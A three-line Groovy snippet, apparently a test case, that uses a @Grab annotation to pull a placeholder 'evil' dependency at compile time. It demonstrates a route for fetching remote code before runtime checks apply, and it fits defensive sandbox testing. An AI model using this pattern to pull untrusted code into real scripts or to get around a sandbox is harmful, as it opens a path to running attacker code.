// compile-time code: tries grapes to be fetched.
@Grapes([@Grab('org.example:evil:1.0')])
import java.util.List
